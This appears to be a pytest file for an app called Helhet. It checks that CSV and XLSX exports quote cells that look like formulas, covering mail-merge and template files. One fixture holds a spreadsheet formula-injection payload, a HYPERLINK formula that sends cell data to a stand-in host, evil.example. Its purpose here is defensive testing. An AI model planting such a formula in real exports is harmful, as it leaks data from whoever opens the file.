"""Every CSV and XLSX file Helhet writes shows text that looks like a formula as text."""

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from helhet import spreadsheets
from helhet.extensions import db
from tests.collector import factories

HYPERLINK = '=HYPERLINK("https://evil.example/?"&A2;"Klikk her")'
FORMULA_LIKE = [HYPERLINK, "+47 12345678", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]


def read_csv(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))


@pytest.mark.parametrize("text", FORMULA_LIKE)
def test_text_that_starts_like_a_formula_gets_a_quote_in_front(text):
    assert spreadsheets.safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "text", ["Hjemmetjenesten", "4601-helse", "K7MQ2-XH9TD", "", "a=b", " =1", "'quoted"]
)
def test_other_text_is_kept_as_it_is(text):
    assert spreadsheets.safe_cell(text) == text


@pytest.mark.parametrize("number", [-3, -0.5, 0, 14, 2.5])
def test_numbers_stay_numbers_also_when_negative(number):
    assert spreadsheets.safe_cell(number) == number


def test_a_csv_file_has_formula_text_quoted_and_negative_counts_as_numbers():
    body = spreadsheets.csv_bytes([["unit", "name", "change"], ["-12", HYPERLINK, -3]])
    assert body.startswith("\ufeff".encode())
    assert b"\r\n" in body
    assert read_csv(body)[1] == ["'-12", "'" + HYPERLINK, "-3"]


def test_an_xlsx_file_stores_formula_text_as_text_and_numbers_as_numbers():
    body = spreadsheets.xlsx_bytes(
        [["unit", "name", "change"], *[["4601", text, -3] for text in FORMULA_LIKE]]
    )
    sheet = load_workbook(io.BytesIO(body)).active
    rows = list(sheet.iter_rows(min_row=2))
    assert [row[1].value for row in rows] == [
        "'" + text.replace("\r", "\n") for text in FORMULA_LIKE
    ]  # XML reads CR as LF
    assert all(row[1].data_type == "s" for row in rows)  # never "f" (formula)
    assert all(row[2].value == -3 and row[2].data_type == "n" for row in rows)


def test_an_xlsx_file_drops_control_characters_before_it_looks_for_a_formula():
    body = spreadsheets.xlsx_bytes([["\x01=1+1", "a\x00b"]])
    cells = next(load_workbook(io.BytesIO(body)).active.iter_rows())
    assert [c.value for c in cells] == ["'=1+1", "ab"]
    assert cells[0].data_type == "s"


# The files Helhet writes today: the mail-merge CSV (alone and in the zip) and the paper template.


def formula_named_round(tree):
    open_round = factories.make_open_round(tree)
    open_round.unit.name = HYPERLINK
    db.session.commit()
    return open_round


def issue(client, open_round, output):
    return client.post(
        f"/admin/runder/{open_round.campaign.id}/koder",
        data={f"count_{open_round.unit.id}": "2", "output": output, "language": "nb"},
    )


def test_the_mail_merge_file_from_the_round_page_shows_a_formula_unit_name_as_text(
    admin_client, tree
):
    response = issue(admin_client, formula_named_round(tree), "csv")
    rows = list(csv.DictReader(io.StringIO(response.get_data().decode("utf-8-sig")), delimiter=";"))
    assert [r["unit_name"] for r in rows] == ["'" + HYPERLINK] * 2


def test_the_mail_merge_file_in_the_zip_shows_a_formula_unit_name_as_text(admin_client, tree):
    response = issue(admin_client, formula_named_round(tree), "zip")
    archive = zipfile.ZipFile(io.BytesIO(response.get_data()))
    body = archive.read(next(n for n in archive.namelist() if n.endswith(".csv")))
    assert [row[2] for row in read_csv(body)[1:]] == ["'" + HYPERLINK] * 2


def test_the_paper_answer_template_quotes_a_unit_code_that_starts_like_a_formula(
    admin_client, tree
):
    open_round = factories.make_open_round(tree)
    open_round.unit.code = (
        "-1+1"  # the forms refuse such a code; a database edited by hand may have one
    )
    db.session.commit()
    response = admin_client.get(f"/admin/runder/{open_round.campaign.id}/papirsvar/mal.csv")
    assert response.status_code == 200
    assert read_csv(response.get_data())[1][0] == "'-1+1"
